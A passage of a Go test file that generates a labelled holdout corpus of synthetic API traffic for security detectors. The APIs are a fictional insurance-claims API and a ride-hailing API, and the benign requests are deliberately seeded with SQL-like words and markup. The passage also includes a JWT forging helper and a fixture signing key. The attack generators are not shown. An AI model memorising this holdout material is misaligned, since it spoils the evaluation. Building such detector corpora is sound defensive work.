// holdout5: an independent labelled corpus for the eight stateless technique
// detectors of package detect, written from docs/detect.md and
// docs/traffic-format.md only (no detector source, no other corpus or
// generator was read). Three APIs that earlier corpora did not use:
//
//   - api.claimsure.example: an insurance claims API (REST/JSON, a SOAP
//     ClaimService, multipart uploads of claim documents);
//   - api.ridego.example: a ride-hailing and mobility API (trips, drivers,
//     fares, payments, geo search);
//   - api.buildhive.example: a CI/CD developer platform (pipelines, build logs,
//     artifacts, webhooks, secrets management, GraphQL).
//
// Labels name every one of the eight stateless detectors that should report an
// exchange; an empty list is benign traffic, much of it deliberately close to
// attacks (SQL words in prose, markup in descriptions, shell commands in
// pipeline definitions, public URLs, masked cards, test keys, expired tokens
// answered 401, page sizes of exactly 1,000, ...). Regenerate with
//
//	go test ./detect/ -run TestHoldout5Generate -update-holdout5
package detect_test

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"hash/fnv"
	"math/rand"
	"net/url"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"
)

var updateHoldout5 = flag.Bool("update-holdout5", false, "rewrite detect/testdata/holdout5 from its generator")

const (
	h5Claims = "api.claimsure.example"
	h5Ride   = "api.ridego.example"
	h5CI     = "api.buildhive.example"

	h5SQLi  = "detect.injection.sqli"
	h5XSS   = "detect.injection.xss"
	h5Other = "detect.injection.other"
	h5SSRF  = "detect.ssrf"
	h5JWT   = "detect.auth.jwt"
	h5Verb  = "detect.misconfig.verbose"
	h5Sens  = "detect.exposure.sensitive"
	h5Limit = "detect.resource.limits"
)

// h5Base is the time of the first request; every valid token is issued an
// hour before it and expires 30 days after it.
var h5Base = time.Date(2026, 12, 1, 8, 0, 0, 0, time.UTC)

const h5SigningKey = "holdout5-hs256-fixture-key-not-used-anywhere"

type h5Client struct {
	Addr string `json:"addr,omitempty"`
}

type h5Msg struct {
	Method    string         `json:"method,omitempty"`
	URL       string         `json:"url,omitempty"`
	Status    int            `json:"status,omitempty"`
	Proto     string         `json:"proto"`
	Headers   map[string]any `json:"headers"`
	Body      string         `json:"body,omitempty"`
	BodySize  int            `json:"body_size"`
	Truncated bool           `json:"truncated,omitempty"`
}

type h5Line struct {
	ID       string   `json:"id"`
	Time     string   `json:"time"`
	Client   h5Client `json:"client"`
	Request  h5Msg    `json:"request"`
	Response *h5Msg   `json:"response,omitempty"`
	Duration float64  `json:"duration_ms"`
}

type h5Label struct {
	ID        string   `json:"id"`
	Detectors []string `json:"detectors"`
}

// h5Req is a request under construction; Auth "" means the default valid
// token of a user of the API, "-" means no Authorization header.
type h5Req struct {
	Method  string
	Host    string
	Path    string // path and query, already encoded
	Headers [][2]string
	Body    string
	CType   string
	Auth    string
	Size    int // body_size when larger than Body
}

type h5Resp struct {
	Status  int
	CType   string
	Body    string
	Headers [][2]string
	Size    int
}

type h5Item struct {
	req    h5Req
	resp   h5Resp
	labels []string
}

type h5Gen struct {
	r       *rand.Rand
	benign  []h5Item
	attacks []h5Item
	tokens  map[string][]string // host -> valid tokens
}

func h5b64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func h5JSON(v any) string {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(buf.String(), "\n")
}

// h5JSONEsc is h5JSON with HTML-safe escapes (\u003c ...), an encoding some
// clients use.
func h5JSONEsc(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// h5Sign makes an HS256 JWT (or with the given alg/signature for attacks).
func h5Token(header, claims map[string]any, sig string) string {
	h := h5b64([]byte(h5JSONEsc(header)))
	c := h5b64([]byte(h5JSONEsc(claims)))
	if sig == "sign" {
		m := hmac.New(sha256.New, []byte(h5SigningKey))
		m.Write([]byte(h + "." + c))
		sig = h5b64(m.Sum(nil))
	}
	return h + "." + c + "." + sig
}

func h5ValidToken(host, sub, role string) string {
	iat := h5Base.Add(-time.Hour).Unix()
	return h5Token(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_2"},
		map[string]any{"iss": "https://auth." + strings.TrimPrefix(host, "api.") + "/", "sub": sub, "aud": host,
			"role": role, "iat": iat, "nbf": iat, "exp": h5Base.Add(30 * 24 * time.Hour).Unix()}, "sign")
}

const h5Alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
const h5Hex = "0123456789abcdef"
const h5Upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"

func (g *h5Gen) str(alpha string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alpha[g.r.Intn(len(alpha))]
	}
	return string(b)
}

func (g *h5Gen) pick(xs ...string) string { return xs[g.r.Intn(len(xs))] }
func (g *h5Gen) n(lo, hi int) int         { return lo + g.r.Intn(hi-lo+1) }
func (g *h5Gen) uuid() string {
	return g.str(h5Hex, 8) + "-" + g.str(h5Hex, 4) + "-4" + g.str(h5Hex, 3) + "-a" + g.str(h5Hex, 3) + "-" + g.str(h5Hex, 12)
}

// luhn completes digits with a check digit.
func h5Luhn(prefix string, length int, g *h5Gen) string {
	d := prefix
	for len(d) < length-1 {
		d += string(rune('0' + g.r.Intn(10)))
	}
	sum := 0
	for i := 0; i < len(d); i++ {
		x := int(d[len(d)-1-i] - '0')
		if i%2 == 0 {
			x *= 2
			if x > 9 {
				x -= 9
			}
		}
		sum += x
	}
	return d + string(rune('0'+(10-sum%10)%10))
}

// h5NotLuhn returns a 16-digit number that fails the Luhn check.
func h5NotLuhn(prefix string, g *h5Gen) string {
	c := h5Luhn(prefix, 16, g)
	last := (int(c[15]-'0') + 3) % 10
	return c[:15] + string(rune('0'+last))
}

func (g *h5Gen) benignAdd(req h5Req, resp h5Resp) {
	g.benign = append(g.benign, h5Item{req: req, resp: resp})
}

func (g *h5Gen) attack(req h5Req, resp h5Resp, labels ...string) {
	sort.Strings(labels)
	g.attacks = append(g.attacks, h5Item{req: req, resp: resp, labels: labels})
}

func (g *h5Gen) token(host string) string {
	ts := g.tokens[host]
	return ts[g.r.Intn(len(ts))]
}

var h5UAs = []string{
	"RideGo/7.12.0 (iPhone; iOS 18.1; Scale/3.00)",
	"RideGo/7.11.4 (Android 15; Pixel 8)",
	"ClaimSure-Web/2026.11.3",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
	"buildhive-cli/3.4.1 (linux; amd64)",
	"buildhive-runner/17.2.0",
	"okhttp/4.12.0",
	"python-requests/2.32.3",
	"Go-http-client/2.0",
}

// h5Nets are the client networks (/24s) of the corpus.
var h5Nets = []string{"203.0.113", "198.51.100", "192.0.2", "100.24.61", "81.92.14"}

// h5Addr is a client address: the drawn network and host, or for a user
// (a token hash, not 0) the user's own network and host.
func h5Addr(net string, host, port int, user uint32) string {
	if user != 0 {
		net, host = h5Nets[int(user>>16)%len(h5Nets)], 2+int(user>>4)%248
	}
	return fmt.Sprintf("%s.%d:%d", net, host, port)
}

var h5Origins = map[string]string{
	h5Claims: "https://portal.claimsure.example",
	h5Ride:   "https://m.ridego.example",
	h5CI:     "https://app.buildhive.example",
}

func (g *h5Gen) render(i int, it h5Item, t time.Time) (h5Line, h5Label) {
	id := fmt.Sprintf("v%05d", i+1)
	rq := it.req
	hdr := map[string]any{}
	var ua string
	uas := []int{5, 6, 9, 8, 3, 4}
	switch rq.Host {
	case h5Claims:
		uas = []int{2, 3, 4, 7, 8}
	case h5Ride:
		uas = []int{0, 1, 0, 1, 7, 3}
	}
	ua = h5UAs[uas[g.r.Intn(len(uas))]]
	hdr["User-Agent"] = ua
	hdr["Accept"] = "application/json"
	hdr["X-Request-Id"] = g.uuid()
	var user uint32 // a hash of the user's own token; 0: none
	switch rq.Auth {
	case "":
		tok := g.token(rq.Host)
		hdr["Authorization"] = "Bearer " + tok
		// A user's token comes from the user's own device and network:
		// its requests take their User-Agent and client network from the
		// token instead of a fresh pick per request (which had one token
		// used from five networks and five kinds of client within half an
		// hour, the replay of a stolen token). The picks are still drawn,
		// so the rest of the corpus is as it was.
		h := fnv.New32a()
		h.Write([]byte(tok))
		user = h.Sum32() | 1
		hdr["User-Agent"] = h5UAs[uas[int(user>>8)%len(uas)]]
	case "-":
	default:
		hdr["Authorization"] = rq.Auth
	}
	if rq.CType != "" {
		hdr["Content-Type"] = rq.CType
	}
	for _, h := range rq.Headers {
		hdr[h[0]] = h[1]
	}
	if a, ok := hdr["Authorization"]; ok && a == "" {
		delete(hdr, "Authorization")
	}
	size := len(rq.Body)
	trunc := false
	if rq.Size > size {
		size, trunc = rq.Size, true
	}
	line := h5Line{
		ID:     id,
		Time:   t.Format("2006-01-02T15:04:05.000Z"),
		Client: h5Client{Addr: h5Addr(g.pick(h5Nets...), g.n(2, 250), g.n(30000, 65000), user)},
		Request: h5Msg{Method: rq.Method, URL: "https://" + rq.Host + rq.Path, Proto: g.pick("HTTP/1.1", "HTTP/2.0"),
			Headers: hdr, Body: rq.Body, BodySize: size, Truncated: trunc},
		Duration: float64(g.n(3, 900)) + float64(g.n(0, 9))/10,
	}
	rs := it.resp
	rh := map[string]any{
		"Date":                   t.Add(40 * time.Millisecond).Format(time.RFC1123),
		"X-Content-Type-Options": "nosniff",
		"Cache-Control":          "no-store",
	}
	if rs.CType != "" {
		rh["Content-Type"] = rs.CType
	}
	for _, h := range rs.Headers {
		rh[h[0]] = h[1]
	}
	rsize := len(rs.Body)
	rtrunc := false
	if rs.Size > rsize {
		rsize, rtrunc = rs.Size, true
	}
	line.Response = &h5Msg{Status: rs.Status, Proto: line.Request.Proto, Headers: rh, Body: rs.Body, BodySize: rsize, Truncated: rtrunc}
	labels := it.labels
	if labels == nil {
		labels = []string{}
	}
	return line, h5Label{ID: id, Detectors: labels}
}

// Shortcuts for responses.
func h5OK(body string) h5Resp      { return h5Resp{Status: 200, CType: "application/json", Body: body} }
func h5Created(body string) h5Resp { return h5Resp{Status: 201, CType: "application/json", Body: body} }
func h5Err(status int, code, msg string) h5Resp {
	return h5Resp{Status: status, CType: "application/json", Body: h5JSON(map[string]any{"error": code, "message": msg})}
}

func h5Multipart(boundary string, parts [][4]string) string {
	// part: name, filename, content-type, content
	var b strings.Builder
	for _, p := range parts {
		b.WriteString("--" + boundary + "\r\n")
		if p[1] != "" {
			b.WriteString(`Content-Disposition: form-data; name="` + p[0] + `"; filename="` + p[1] + "\"\r\n")
		} else {
			b.WriteString(`Content-Disposition: form-data; name="` + p[0] + "\"\r\n")
		}
		if p[2] != "" {
			b.WriteString("Content-Type: " + p[2] + "\r\n")
		}
		b.WriteString("\r\n" + p[3] + "\r\n")
	}
	b.WriteString("--" + boundary + "--\r\n")
	return b.String()
}

func h5XMLEsc(s string) string {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "'", "&apos;", `"`, "&quot;")
	return r.Replace(s)
}

func h5SOAP(op, inner string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cl="urn:claimsure:claims:v1"><soapenv:Header><cl:Channel>broker-portal</cl:Channel></soapenv:Header><soapenv:Body><cl:` + op + `>` + inner + `</cl:` + op + `></soapenv:Body></soapenv:Envelope>`
}

func TestHoldout5Generate(t *testing.T) {
	g := &h5Gen{r: rand.New(rand.NewSource(20261201)), tokens: map[string][]string{}}
	for _, host := range []string{h5Claims, h5Ride, h5CI} {
		for i := 0; i < 40; i++ {
			role := "customer"
			switch {
			case host == h5Claims && i%5 == 0:
				role = "adjuster"
			case host == h5Ride && i%3 == 0:
				role = "driver"
			case host == h5CI:
				role = []string{"developer", "maintainer", "developer", "reporter"}[i%4]
			}
			g.tokens[host] = append(g.tokens[host], h5ValidToken(host, fmt.Sprintf("usr_%s", g.str(h5Alnum, 12)), role))
		}
	}
	g.benignClaims(400)
	g.benignRide(390)
	g.benignCI(380)
	g.benignTraps()
	g.attackSQLi()
	g.attackXSS()
	g.attackOther()
	g.attackSSRF()
	g.attackJWT()
	g.attackVerbose()
	g.attackSensitive()
	g.attackLimits()

	// Interleave attacks into benign traffic deterministically.
	items := append([]h5Item{}, g.benign...)
	g.r.Shuffle(len(items), func(i, j int) { items[i], items[j] = items[j], items[i] })
	for _, a := range g.attacks {
		pos := g.r.Intn(len(items) + 1)
		items = append(items, h5Item{})
		copy(items[pos+1:], items[pos:])
		items[pos] = a
	}
	var traffic, labels bytes.Buffer
	tm := h5Base.Add(2 * time.Second)
	counts := map[string]int{}
	benign := 0
	for i, it := range items {
		tm = tm.Add(time.Duration(g.n(150, 2400)) * time.Millisecond)
		line, lab := g.render(i, it, tm)
		traffic.WriteString(h5JSON(line) + "\n")
		labels.WriteString(h5JSON(lab) + "\n")
		if len(lab.Detectors) == 0 {
			benign++
		}
		for _, d := range lab.Detectors {
			counts[d]++
		}
	}
	t.Logf("holdout5: %d exchanges, %d benign, attacks per detector: %v", len(items), benign, counts)
	writeOrCheckCorpus(t, filepath.Join("testdata", "holdout5"), *updateHoldout5, "go test ./detect/ -run TestHoldout5Generate -update-holdout5", traffic.Bytes(), labels.Bytes())
}

var h5Names = []string{"Maria Okafor", "Liam O'Reilly", "Chen Wei", "Aoife D'Arcy", "José Ramírez", "Priya Natarajan", "Tomasz Nowak", "Fatima Zahra El Idrissi", "Grace Union", "Selma Drop", "Kwame Mensah", "Ólafur Jónsson", "Noah Select", "Hannah Schmidt-Weber", "Ngozi Eze"}

var h5ClaimTexts = []string{
	"Rear-ended at the junction of Union St and 5th; the other driver said he would select a body shop himself.",
	"Water leak from upstairs flat, ceiling drop of about 2cm, plaster damaged in bedroom and hallway.",
	"Laptop stolen from car; police ref attached. Receipt shows 1 x MacBook Air (M3) = 1=1 unit, £1,199.",
	"Storm took down the fence between 12 and 14 Oak Lane -- neighbour's fence too, see photos 3-7.",
	"Dog bit a courier at our gate; he says 'it's nothing' but we're reporting it anyway.",
	"Hail damage on roof & bonnet. Garage quote: <b>£2,340</b> incl. VAT.",
	"Phone dropped into the sea at Dún Laoghaire pier; it's the O'Brien family policy.",
	"Burst pipe under the sink; plumber's note says 'replace trap & union joint'.",
	"Kitchen fire, started with oil in a pan. Fire brigade report no. 2026/11/4471 attached.",
	"Windscreen chip (about 5 > 3 mm) from a lorry on the M6, repaired same day.",
	"Tree fell on the shed; please select the fast-track option if available.",
	"Bike stolen from the rack at Leeds station, lock cut. Serial WTU-4471-X.",
	"Delete the duplicate claim I opened yesterday, this one has the right photos.",
	"Sold my car last week; the new owner's dashcam shows the table of damages.",
}

func (g *h5Gen) claimID() string { return fmt.Sprintf("CLM-2026-%06d", g.n(1000, 99999)) }
func (g *h5Gen) policyID() string {
	return fmt.Sprintf("POL-%s-%d", g.pick("HOME", "MOTOR", "TRAVEL", "PET", "GADGET"), g.n(100000, 999999))
}

func (g *h5Gen) claimObj() map[string]any {
	return map[string]any{
		"id": g.claimID(), "policy_id": g.policyID(), "status": g.pick("submitted", "in_review", "awaiting_documents", "approved", "paid", "rejected"),
		"incident_date": fmt.Sprintf("2026-%02d-%02d", g.n(1, 11), g.n(1, 28)), "amount_claimed": map[string]any{"value": fmt.Sprintf("%d.%02d", g.n(80, 9000), g.n(0, 99)), "currency": g.pick("GBP", "EUR")},
		"description": h5ClaimTexts[g.r.Intn(len(h5ClaimTexts))], "adjuster": map[string]any{"id": "adj_" + g.str(h5Alnum, 10), "name": h5Names[g.r.Intn(len(h5Names))]},
		"created_at": h5Base.Add(-time.Duration(g.n(1, 900)) * time.Hour).Format(time.RFC3339),
	}
}

func (g *h5Gen) benignClaims(n int) {
	h := h5Claims
	origin := [][2]string{{"Origin", h5Origins[h]}}
	corsOK := [][2]string{{"Access-Control-Allow-Origin", h5Origins[h]}, {"Access-Control-Allow-Credentials", "true"}, {"Vary", "Origin"}}
	for i := 0; i < n; i++ {
		switch i % 16 {
		case 0:
			cs := []any{}
			for j := 0; j < g.n(1, 5); j++ {
				cs = append(cs, g.claimObj())
			}
			lim := g.pick("10", "25", "50", "100")
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v1/claims?status=" + g.pick("open", "in_review", "paid") + "&limit=" + lim + "&cursor=" + g.str(h5Alnum, 16), Headers: origin},
				h5Resp{Status: 200, CType: "application/json", Body: h5JSON(map[string]any{"data": cs, "next_cursor": g.str(h5Alnum, 20)}), Headers: corsOK})
		case 1:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v1/claims/" + g.claimID()}, h5OK(h5JSON(g.claimObj())))
		case 2:
			body := map[string]any{"policy_id": g.policyID(), "incident": map[string]any{"date": "2026-11-2" + fmt.Sprint(g.n(0, 9)), "type": g.pick("collision", "theft", "water_damage", "fire", "storm"),
				"description": h5ClaimTexts[g.r.Intn(len(h5ClaimTexts))], "location": map[string]any{"lat": 51.5 + float64(g.n(0, 999))/1000, "lng": -0.1 - float64(g.n(0, 999))/1000}},
				"contact": map[string]any{"name": h5Names[g.r.Intn(len(h5Names))], "phone": fmt.Sprintf("+44 7%03d %06d", g.n(100, 999), g.n(0, 999999)), "email": "claimant" + fmt.Sprint(g.n(1, 999)) + "@mail.example"}}
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v1/claims", CType: "application/json", Body: h5JSON(body)}, h5Created(h5JSON(map[string]any{"id": g.claimID(), "status": "submitted"})))
		case 3:
			b := "----ClaimSureBoundary" + g.str(h5Alnum, 12)
			fn := g.pick("IMG_4471.jpg", "police-report.pdf", "invoice_garage.pdf", "receipt (1).png", "photos-rear-bumper.heic")
			body := h5Multipart(b, [][4]string{{"claim_id", "", "", g.claimID()}, {"kind", "", "", g.pick("photo", "receipt", "police_report", "estimate")}, {"caption", "", "", g.pick("Front left wing", "Ceiling after the leak", "Receipt from Currys", "Estimate from O'Neill Motors", "see <i>page 2</i> for totals")}, {"file", fn, "application/octet-stream", g.str(h5Alnum, 120)}})
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v1/claims/" + g.claimID() + "/documents", CType: "multipart/form-data; boundary=" + b, Body: body, Size: g.n(200000, 4000000)},
				h5Created(h5JSON(map[string]any{"document_id": "doc_" + g.str(h5Alnum, 14), "sha256": g.str(h5Hex, 64), "status": "scanning"})))
		case 4:
			q := g.pick("water damage", "select comfort sofa", "union street", "drop kerb", "O'Reilly", "storm AND fence", "fire -kitchen", "tesla model 3", "1=1 replacement")
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v1/search/claims?q=" + url.QueryEscape(q) + "&page=" + fmt.Sprint(g.n(1, 9)) + "&per_page=" + g.pick("20", "50", "200")},
				h5OK(h5JSON(map[string]any{"total": g.n(0, 400), "hits": []any{g.claimObj()}})))
		case 5:
			inner := "<cl:claimId>" + g.claimID() + "</cl:claimId><cl:includeHistory>true</cl:includeHistory>"
			resp := `<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><cl:GetClaimResponse xmlns:cl="urn:claimsure:claims:v1"><cl:status>in_review</cl:status><cl:reserve currency="GBP">` + fmt.Sprint(g.n(100, 9000)) + `.00</cl:reserve></cl:GetClaimResponse></soapenv:Body></soapenv:Envelope>`
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/soap/ClaimService", CType: "text/xml; charset=utf-8", Body: h5SOAP("GetClaim", inner), Headers: [][2]string{{"SOAPAction", "urn:claimsure:claims:v1#GetClaim"}}},
				h5Resp{Status: 200, CType: "text/xml; charset=utf-8", Body: resp})
		case 6:
			note := g.pick("Called the claimant; she'll send the garage's invoice by Friday.", "Select 'fast track' — under £500 and clear photos.", "Policy excludes wear & tear; see clause 4.2 (a) & (b).", "Customer asked: 'can I drop the table of items I already sent?'", "Duplicate of "+g.claimID()+"; closing this one.", "Estimate < reserve, approving.")
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v1/claims/" + g.claimID() + "/notes", CType: "application/json", Body: h5JSON(map[string]any{"text": note, "visibility": g.pick("internal", "claimant")})},
				h5Created(h5JSON(map[string]any{"id": "note_" + g.str(h5Alnum, 10), "created_at": "2026-12-01T08:1" + fmt.Sprint(g.n(0, 9)) + ":00Z"})))
		case 7:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v1/policies/" + g.policyID()},
				h5OK(h5JSON(map[string]any{"id": g.policyID(), "holder": h5Names[g.r.Intn(len(h5Names))], "premium": map[string]any{"monthly": fmt.Sprintf("%d.%02d", g.n(9, 90), g.n(0, 99))}, "cover": []string{"accidental_damage", "theft", "legal_expenses"},
					"payment_method": map[string]any{"type": "card", "brand": g.pick("visa", "mastercard"), "last4": fmt.Sprintf("%04d", g.n(0, 9999)), "exp_month": g.n(1, 12), "exp_year": g.n(2027, 2031)}})))
		case 8:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v1/payouts/pay_" + g.str(h5Alnum, 14)},
				h5OK(h5JSON(map[string]any{"amount": fmt.Sprintf("%d.00", g.n(50, 8000)), "status": "sent", "bank_account": map[string]any{"sort_code": "**-**-" + fmt.Sprint(g.n(10, 99)), "account_number_last4": fmt.Sprintf("%04d", g.n(0, 9999))}, "reference": h5NotLuhn("4", g)})))
		case 9:
			g.benignAdd(h5Req{Method: "PATCH", Host: h, Path: "/v1/claims/" + g.claimID(), CType: "application/json", Body: h5JSON(map[string]any{"status": g.pick("approved", "awaiting_documents"), "reserve": g.n(100, 9000)})},
				h5OK(h5JSON(map[string]any{"ok": true, "etag": `W/"` + g.str(h5Hex, 32) + `"`})))
		case 10:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v1/adjusters/adj_" + g.str(h5Alnum, 10) + "/queue?sort=" + g.pick("-created_at", "priority", "amount_claimed.value") + "&fields=" + url.QueryEscape("id,status,policy_id") + "&limit=" + g.pick("100", "500", "1000")},
				h5OK(h5JSON(map[string]any{"items": []any{g.claimObj(), g.claimObj()}, "count": 2})))
		case 11:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v1/claims/" + g.claimID() + "/documents/doc_" + g.str(h5Alnum, 14) + "/download"},
				h5OK(h5JSON(map[string]any{"url": "https://claimsure-docs.s3.eu-west-2.amazonaws.com/claims/" + g.uuid() + ".pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20261201T080000Z&X-Amz-Expires=300&X-Amz-SignedHeaders=host&X-Amz-Signature=" + g.str(h5Hex, 64), "expires_in": 300})))
		case 12:
			body := url.Values{"grant_type": {"refresh_token"}, "refresh_token": {g.str(h5Alnum, 48)}, "client_id": {"claimsure-portal"}}
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/oauth/token", CType: "application/x-www-form-urlencoded", Body: body.Encode(), Auth: "-"},
				h5OK(h5JSON(map[string]any{"access_token": h5ValidToken(h, "usr_"+g.str(h5Alnum, 12), "customer"), "token_type": "Bearer", "expires_in": 3600, "refresh_token": g.str(h5Alnum, 48)})))
		case 13:
			if i%36 == 13 {
				g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/api/v1/projects/" + g.proj() + "/artifacts/uploads", CType: "application/json", Body: h5JSON(map[string]any{"name": "coverage.xml", "size": g.n(1000, 90000)})},
					h5Created(h5JSON(map[string]any{"upload_id": "upl_" + g.str(h5Alnum, 20), "part_size": 8388608, "parts": 1})))
				break
			}
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v1/claims/" + g.claimID() + "/timeline"},
				h5OK(h5JSON(map[string]any{"events": []any{map[string]any{"at": "2026-11-29T10:00:00Z", "text": "Claim submitted"}, map[string]any{"at": "2026-11-30T09:12:00Z", "text": "Adjuster requested <em>original</em> receipt"}}})))
		case 14:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v1/claims/" + g.claimID(), Auth: "-"}, h5Err(401, "unauthorized", "missing bearer token"))
		case 15:
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v1/claims/" + g.claimID() + "/messages", CType: "application/json", Body: h5JSON(map[string]any{"body": g.pick("Hi, I uploaded the receipt. Is there anything else you need?", "The portal said 'error' when I clicked submit, but it seems to have gone through.", "Can you select the bank account ending 4471 for the payout?", "Thanks!! <3", "My son says the site runs on localhost on his laptop, but I use the app :)")})},
				h5Created(h5JSON(map[string]any{"id": "msg_" + g.str(h5Alnum, 10)})))
		}
	}
}

var h5Places = []string{"King's Cross St Pancras", "Terminal 5, Heathrow", "221B Baker St", "O'Connell Bridge", "Union Square", "Select Cinema, Camden", "Drop-off zone B", "1=1 Café, Shoreditch", "Church & Vine", "Rue de l'Université 7"}

func (g *h5Gen) trip() map[string]any {
	return map[string]any{
		"id": "trp_" + g.str(h5Alnum, 16), "status": g.pick("requested", "accepted", "arriving", "in_progress", "completed", "cancelled"),
		"pickup":  map[string]any{"name": h5Places[g.r.Intn(len(h5Places))], "lat": 51.45 + float64(g.n(0, 999))/10000, "lng": -0.12 + float64(g.n(0, 999))/10000},
		"dropoff": map[string]any{"name": h5Places[g.r.Intn(len(h5Places))], "lat": 51.48 + float64(g.n(0, 999))/10000, "lng": -0.08 + float64(g.n(0, 999))/10000},
		"fare":    map[string]any{"amount": fmt.Sprintf("%d.%02d", g.n(6, 80), g.n(0, 99)), "currency": "GBP"},
		"driver":  map[string]any{"id": "drv_" + g.str(h5Alnum, 10), "first_name": strings.Fields(h5Names[g.r.Intn(len(h5Names))])[0], "rating": 4.5 + float64(g.n(0, 5))/10, "plate": fmt.Sprintf("%s%d %s", g.str("ABCDEFGHJKLMNOPRSTVWXY", 2), g.n(10, 75), g.str("ABCDEFGHJKLMNOPRSTVWXY", 3))},
	}
}

func (g *h5Gen) benignRide(n int) {
	h := h5Ride
	for i := 0; i < n; i++ {
		switch i % 15 {
		case 0:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: fmt.Sprintf("/v2/drivers/nearby?lat=51.%04d&lng=-0.%04d&radius=%s&vehicle=%s", g.n(0, 9999), g.n(0, 9999), g.pick("500", "1500", "5000", "20000"), g.pick("standard", "xl", "green"))},
				h5OK(h5JSON(map[string]any{"drivers": []any{map[string]any{"id": "drv_" + g.str(h5Alnum, 10), "eta_s": g.n(60, 900), "bearing": g.n(0, 359)}}, "surge": 1.0 + float64(g.n(0, 8))/10})))
		case 1:
			body := map[string]any{"pickup": map[string]any{"lat": 51.5, "lng": -0.12, "note": g.pick("I'm by the blue door", "Meet at gate 3 -- near the 'Departures' sign", "outside Select Cinema", "By the Union Jack flag shop")}, "dropoff": map[string]any{"place_id": "plc_" + g.str(h5Alnum, 12)}, "product": g.pick("standard", "xl", "green"), "payment_method_id": "pm_" + g.str(h5Alnum, 24)}
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v2/trips", CType: "application/json", Body: h5JSON(body), Headers: [][2]string{{"Idempotency-Key", g.uuid()}}}, h5Created(h5JSON(g.trip())))
		case 2:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v2/trips/trp_" + g.str(h5Alnum, 16)}, h5OK(h5JSON(g.trip())))
		case 3:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v2/places/autocomplete?q=" + url.QueryEscape(h5Places[g.r.Intn(len(h5Places))]) + "&session=" + g.uuid()},
				h5OK(h5JSON(map[string]any{"predictions": []any{map[string]any{"place_id": "plc_" + g.str(h5Alnum, 12), "text": h5Places[g.r.Intn(len(h5Places))]}}})))
		case 4:
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v2/fare-estimates", CType: "application/json", Body: h5JSON(map[string]any{"from": map[string]any{"lat": 51.50, "lng": -0.11}, "to": map[string]any{"lat": 51.47, "lng": -0.45}, "products": []string{"standard", "xl"}, "max_distance_m": g.n(1000, 90000)})},
				h5OK(h5JSON(map[string]any{"estimates": []any{map[string]any{"product": "standard", "low": g.n(20, 40), "high": g.n(41, 60)}}, "expires_at": "2026-12-01T09:00:00Z"})))
		case 5:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v2/payments/methods"},
				h5OK(h5JSON(map[string]any{"methods": []any{map[string]any{"id": "pm_" + g.str(h5Alnum, 24), "brand": "visa", "display": "Visa •••• " + fmt.Sprintf("%04d", g.n(0, 9999)), "number": "4242 XXXX XXXX 4242", "default": true}, map[string]any{"id": "pm_" + g.str(h5Alnum, 24), "brand": "amex", "display": "**** **** *" + fmt.Sprintf("%04d", g.n(0, 9999))}}})))
		case 6:
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v2/payment-intents", CType: "application/json", Body: h5JSON(map[string]any{"trip_id": "trp_" + g.str(h5Alnum, 16), "amount": g.n(600, 9000), "currency": "gbp"})},
				h5Created(h5JSON(map[string]any{"id": "pi_" + g.str(h5Alnum, 24), "client_secret": "pi_" + g.str(h5Alnum, 24) + "_secret_" + g.str(h5Alnum, 25), "publishable_key": "pk_live_" + g.str(h5Alnum, 99), "status": "requires_confirmation"})))
		case 7:
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v2/trips/trp_" + g.str(h5Alnum, 16) + "/rating", CType: "application/json", Body: h5JSON(map[string]any{"stars": g.n(1, 5), "comment": g.pick("Great driver, smooth ride & clean car", "Driver took the A40; select a better route next time?", "Car smelled like smoke; 2/5", "Picked me up at the Union Jack pub, perfect", "<3 lovely chat", "He said 'DROP me here' was fine, thanks", "Music too loud -- otherwise ok", "Driver's app crashed (he said something about a stack trace?) but he got me there")})},
				h5OK(`{"ok":true}`))
